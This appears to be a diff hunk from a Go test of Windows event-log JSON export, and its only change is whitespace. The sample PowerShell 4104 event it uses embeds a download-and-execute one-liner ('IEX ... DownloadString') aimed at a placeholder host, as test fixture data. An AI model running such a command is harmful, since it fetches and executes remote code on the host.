@@ -147,7 +147,7 @@ func TestWindowsJSONExport(t *testing.T) {
 		"Event.System.Provider.#attributes.Name": "Microsoft-Windows-PowerShell", "Event.System.Provider.#attributes.Guid": "A0C1853B-5C40-4B15-8766-3CF1C58F985A",
 		"Event.System.EventID": int64(4104), "Event.System.Channel": "Microsoft-Windows-PowerShell/Operational", "Event.System.Computer": "PC01",
 		"Event.System.TimeCreated.#attributes.SystemTime": "2026-11-30T01:02:03.000004Z",
-		"Event.System.Execution.#attributes.ProcessID": int64(1), "Event.System.Execution.#attributes.ThreadID": int64(2),
+		"Event.System.Execution.#attributes.ProcessID":    int64(1), "Event.System.Execution.#attributes.ThreadID": int64(2),
 		"Event.EventData.ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')", "Event.EventData.MessageNumber": int64(1),
 		"Provider_Name": "Microsoft-Windows-PowerShell", "Provider_Guid": "A0C1853B-5C40-4B15-8766-3CF1C58F985A", "EventID": "4104",
 		"Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": "PC01", "TimeCreated": "2026-11-30T01:02:03.000004Z",
